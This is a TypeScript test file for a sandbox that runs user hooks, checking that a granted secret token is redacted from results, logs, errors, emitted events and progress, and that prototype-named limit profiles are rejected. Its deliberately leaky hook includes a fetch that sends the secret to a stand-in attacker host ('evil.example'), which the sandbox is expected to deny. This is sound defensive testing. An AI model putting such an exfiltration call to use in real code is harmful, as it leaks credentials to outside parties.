// Granted secrets in the sandbox: whatever a hook does with a value from ctx.env, nothing that
// leaves the worker holds it (logs, error, denials, result, emitted payloads, progress).
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { DEFAULT_SANDBOX_OPTIONS } from '../../helpers/sandbox-options.ts';
import { createCompiler, createSandbox, type CompiledHook, type HookGrants, type SandboxEvent } from '../../../runtime/index.ts';
import { taskFor } from '../harness.ts';

const SECRET = 'ru"n\\time\nsecret-ñ';
const FORMS = [SECRET, JSON.stringify(SECRET).slice(1, -1), encodeURIComponent(SECRET)];
const GRANTS: HookGrants = { env: { TOKEN: SECRET }, progress: true, emit: { types: ['media.updated'] }, net: { allow: ['api.example'], maxResponseBytes: 1024 } };

const SOURCE = `export default async function (event, ctx) {
  const s = ctx.env.TOKEN;
  ctx.log.info(s, { [s]: s }, [JSON.stringify(s)], encodeURIComponent(s));
  ctx.progress({ key: s.slice(0, 20), message: 'at ' + s, data: { s } });
  ctx.emit('media.updated', { title: s, nested: { [s]: [s] } });
  try { ctx.emit(s, {}); } catch {}
  try { await ctx.fetch('https://evil.example/?k=' + encodeURIComponent(s)); } catch {}
  if (event.payload.mode === 'throw') { const e = new Error('bad ' + s); e.name = s; throw e; }
  if (event.payload.mode === 'map') return new Map([[s, new Set([s])]]);
  return { s, list: [s, { deep: s }], [s]: 1 };
}`;

describe('secret redaction in the worker', () => {
  const compiler = createCompiler(DEFAULT_SANDBOX_OPTIONS);
  const events: SandboxEvent[] = [];
  const sandbox = createSandbox({ ...DEFAULT_SANDBOX_OPTIONS, minThreads: 1, maxThreads: 1, onEvent: (e) => events.push(e) });
  let hook: CompiledHook;
  before(async () => {
    await sandbox.start();
    const compiled = await compiler.compile(SOURCE, 'leak.js');
    assert.ok(compiled.ok);
    hook = compiled.hook;
  });
  after(async () => {
    await sandbox.close();
    await compiler.close();
  });

  function assertNoSecret(what: string, value: unknown): void {
    const text = JSON.stringify(value, (_k, v) => (v instanceof Map ? [...v] : v instanceof Set ? [...v] : v));
    for (const form of FORMS) assert.ok(!text.includes(form), `${what} holds ${JSON.stringify(form)}: ${text}`);
  }

  it('redacts the result, logs, denials, emitted payloads and progress', async () => {
    events.length = 0;
    const outcome = await sandbox.run(taskFor(hook, { grants: GRANTS, payload: { mode: 'return' } }));
    assert.equal(outcome.status, 'ok', JSON.stringify(outcome.error));
    assert.deepEqual(outcome.value, { s: '[redacted]', list: ['[redacted]', { deep: '[redacted]' }], '[redacted]': 1 });
    assert.deepEqual(outcome.emitted, [{ type: 'media.updated', payload: { title: '[redacted]', nested: { '[redacted]': ['[redacted]'] } } }]);
    assert.deepEqual(outcome.denials?.map((d) => d.capability), ['emit', 'net']);
    assertNoSecret('outcome', outcome);
    const progress = events.filter((e) => e.type === 'hook.progress');
    assert.ok(progress.length > 0, 'progress was sent');
    assertNoSecret('progress', progress);
    assert.match(JSON.stringify(progress), /"message":"at \[redacted\]"/);
  });

  it('redacts a thrown error (name, message, stack) and a result of Maps and Sets', async () => {
    const thrown = await sandbox.run(taskFor(hook, { grants: GRANTS, payload: { mode: 'throw' } }));
    assert.equal(thrown.status, 'error');
    assert.equal(thrown.error?.message, 'bad [redacted]');
    assertNoSecret('error', thrown);
    const mapped = await sandbox.run(taskFor(hook, { grants: GRANTS, payload: { mode: 'map' } }));
    assert.equal(mapped.status, 'ok');
    assert.deepEqual(mapped.value, new Map([['[redacted]', new Set(['[redacted]'])]]));
  });

  it('leaves everything as is without env grants', async () => {
    const source = 'export default (e, ctx) => { ctx.log.info("[redacted]?"); return { s: "ru\\"n" }; }';
    const compiled = await compiler.compile(source, 'plain.js');
    assert.ok(compiled.ok);
    const outcome = await sandbox.run(taskFor(compiled.hook));
    assert.deepEqual(outcome.value, { s: 'ru"n' });
    assert.deepEqual(outcome.logs.map((l) => l.message), ['[redacted]?']);
  });

  it('a task naming an inherited limit profile is a clear error, not a crash', async () => {
    for (const limits of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      const outcome = await sandbox.run(taskFor(hook, { limits }));
      assert.equal(outcome.status, 'error', limits);
      assert.match(outcome.error?.message ?? '', /unknown limit profile/);
    }
  });
});
